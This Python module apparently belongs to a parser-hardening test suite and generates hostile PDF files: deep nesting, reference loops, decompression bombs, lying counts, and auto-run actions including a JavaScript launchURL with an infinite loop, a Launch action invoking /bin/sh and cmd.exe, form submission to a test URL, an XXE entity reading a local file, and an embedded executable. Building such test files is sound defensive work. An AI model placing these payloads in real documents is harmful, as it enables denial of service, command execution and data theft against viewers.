"""PDF documents: nesting, loops, streams that unpack without end, scripts and actions, numbers that lie."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Sequence
from functools import lru_cache

from hostile.building import SAID, File, Marks, noise


def pdf(objects: Sequence[bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), list[int]()
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def one_page(
    content: bytes, catalog: bytes = b"", page: bytes = b"", more: Sequence[bytes] = (), filtered: bytes = b""
) -> bytes:
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> %s >>" % page,
        stream(content, filtered),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ])  # fmt: skip


def words(text: str = SAID) -> bytes:
    return b"BT /F1 12 Tf 40 700 Td (%s) Tj ET" % text.encode()


@lru_cache(maxsize=2)
def _flat(megabytes: int, step: bytes) -> bytes:
    packer = zlib.compressobj(9)
    block = step * ((1 << 20) // len(step))
    return b"".join([packer.compress(block) for _ in range(megabytes)]) + packer.flush()


def files(marks: Marks) -> Iterator[tuple[str, File]]:
    yield from _deep()
    yield from _loops()
    yield from _bombs()
    yield from _actions(marks)
    yield from _lies()


def _deep() -> Iterator[tuple[str, File]]:
    yield "deep-arrays.pdf", one_page(words(), catalog=b"/X " + b"[" * 150_000 + b"]" * 150_000)
    yield (
        "deep-dictionaries.pdf",
        one_page(words(), catalog=b"/X " + b"<</A " * 70_000 + b"1" + b">>" * 70_000),
    )
    yield "deep-content.pdf", one_page(b"[" * 100_000 + words())
    yield "deep-states.pdf", one_page(b"q " * 150_000 + words())
    yield "deep-marks.pdf", one_page(b"/P BMC " * 100_000 + words())
    tree = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(3, 8_003)
    ]
    yield (
        "deep-page-tree.pdf",
        pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *tree]),
    )


def _loops() -> Iterator[tuple[str, File]]:
    yield (
        "page-tree-loop.pdf",
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
            ]
        ),
    )
    yield "table-loop.pdf", one_page(words()).replace(b"/Root", b"/Prev 9 /XRefStm 9 /Root")
    whole = one_page(words())
    start = whole.rindex(b"xref\n0")
    yield "table-points-to-itself.pdf", whole.replace(b"/Root", b"/Prev %d /Root" % start)
    form = stream(
        b"/X1 Do " * 50,
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>",
    )
    yield "form-in-itself.pdf", one_page(words() + b" /X1 Do", more=[form])
    glyph = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>"
    yield (
        "letter-in-itself.pdf",
        one_page(words("aaaa"), more=[stream(b"BT /F1 9 Tf (aaaa) Tj ET")]).replace(
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", glyph
        ),
    )
    yield "length-in-itself.pdf", one_page(words()).replace(b"/Length", b"/Length 4 0 R /L")
    yield (
        "outline-loop.pdf",
        one_page(
            words(),
            catalog=b"/Outlines 6 0 R",
            more=[b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (x) /Count 9 >>"],
        ),
    )
    yield (
        "names-loop.pdf",
        one_page(
            words(),
            catalog=b"/Names << /Dests 6 0 R /JavaScript 6 0 R /EmbeddedFiles 6 0 R >>",
            more=[b"<< /Kids [6 0 R 6 0 R] >>"],
        ),
    )
    yield (
        "objects-in-themselves.pdf",
        one_page(
            words(),
            more=[
                stream(
                    zlib.compress(b"6 0 << >>"),
                    b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R /Filter /FlateDecode",
                )
            ],
        ),
    )


def _bombs() -> Iterator[tuple[str, File]]:
    flat = b"/Filter /FlateDecode"
    yield "stream-of-zeros.pdf", one_page(_flat(200, b"\0"), filtered=flat)
    yield "stream-of-words.pdf", one_page(_flat(60, b"BT /F1 9 Tf (killed) Tj ET\n     "), filtered=flat)
    yield (
        "packed-four-times.pdf",
        one_page(
            zlib.compress(zlib.compress(_flat(200, b"\0"), 9), 9),
            filtered=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]",
        ),
    )
    yield "thousand-filters.pdf", one_page(b"x", filtered=b"/Filter [" + b"/ASCIIHexDecode " * 20_000 + b"]")
    yield "runs.pdf", one_page(b"\x81 " * 70_000, filtered=b"/Filter /RunLengthDecode")
    yield "lzw.pdf", one_page(noise(20_000, "lzw"), filtered=b"/Filter /LZWDecode")
    picture = stream(
        zlib.compress(b"\0" * 1000),
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
    )
    yield "gigantic-picture.pdf", one_page(b"q 600 0 0 700 0 0 cm /X1 Do Q", more=[picture])
    yield (
        "endless-operators.pdf",
        one_page(zlib.compress(b"0 0 m 1 1 l S " * 100_000 + words(), 9), filtered=flat),
    )
    predictor = b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>"
    yield "predictor.pdf", one_page(zlib.compress(words()), filtered=predictor)
    yield (
        "jbig.pdf",
        one_page(
            b"/X1 Do",
            more=[
                stream(
                    noise(3000, "jbig"),
                    b"/Type /XObject /Subtype /Image /Width 9999 /Height 9999 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
                )
            ],
        ),
    )
    yield (
        "jpx.pdf",
        one_page(
            b"/X1 Do",
            more=[
                stream(
                    b"\0\0\0\x0cjP  \r\n\x87\n" + noise(3000, "jpx"),
                    b"/Type /XObject /Subtype /Image /Width 9999 /Height 9999 /Filter /JPXDecode",
                )
            ],
        ),
    )


def _actions(marks: Marks) -> Iterator[tuple[str, File]]:
    url, near = marks.url.encode(), str(marks.secret).encode()
    yield (
        "script.pdf",
        one_page(
            words(),
            catalog=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\); while\\(true\\){}) >>"
            % url,
        ),
    )
    yield (
        "launch.pdf",
        one_page(
            words(), catalog=b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
        ),
    )
    yield (
        "addresses.pdf",
        one_page(
            words(),
            catalog=b"/OpenAction << /S /URI /URI (%s) >>" % url,
            page=b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (%s) >> >> >>" % url,
        ),
    )
    yield "outside-content.pdf", one_page(b"x", filtered=b"/F (%s) /FFilter /FlateDecode" % near)
    yield (
        "outside-page.pdf",
        one_page(
            words() + b" /X1 Do",
            more=[
                stream(
                    b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (%s) /Page 0 >>" % near
                )
            ],
        ),
    )
    form = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "%s">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&x;</xdp:xdp>'
        % marks.file_url.encode()
    )
    yield (
        "form-with-entity.pdf",
        one_page(words(), catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>", more=[stream(form)]),
    )
    yield (
        "program-inside.pdf",
        one_page(
            words(),
            catalog=b"/Names << /EmbeddedFiles << /Names [(x.exe) << /EF << /F 6 0 R >> /F (x.exe) >>] >> >>",
            more=[stream(b"MZ" + noise(200, "exe"))],
        ),
    )


def _lies() -> Iterator[tuple[str, File]]:
    whole = one_page(words())
    yield "two-billion-pages.pdf", whole.replace(b"/Count 1", b"/Count 2147483647")
    yield "pages-below-zero.pdf", whole.replace(b"/Count 1", b"/Count -5")
    yield "gigantic-page.pdf", whole.replace(b"612 792", b"1e30 -1e38")
    yield "wrong-length.pdf", whole.replace(b"/Length", b"/Length 99999999999 /L")
    yield "table-off-the-end.pdf", whole.replace(b"startxref\n", b"startxref\n9")
    yield "hundred-million-objects.pdf", whole.replace(b"/Size 6", b"/Size 100000000")
    kids = b" ".join([b"3 0 R"] * 20_000)
    yield (
        "same-page-again.pdf",
        whole.replace(b"[3 0 R]", b"[" + kids + b"]").replace(b"/Count 1", b"/Count 20000"),
    )
    yield (
        "locked.pdf",
        whole.replace(
            b"/Root",
            b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /O (x) /U (x) /P -1 >> /ID [(a)(b)] /Root",
        ),
    )
    yield "header-alone.pdf", b"%PDF-1.7\n%%EOF"
    yield "noise-after-header.pdf", b"%PDF-1.7\n" + noise(50_000, "pdf")
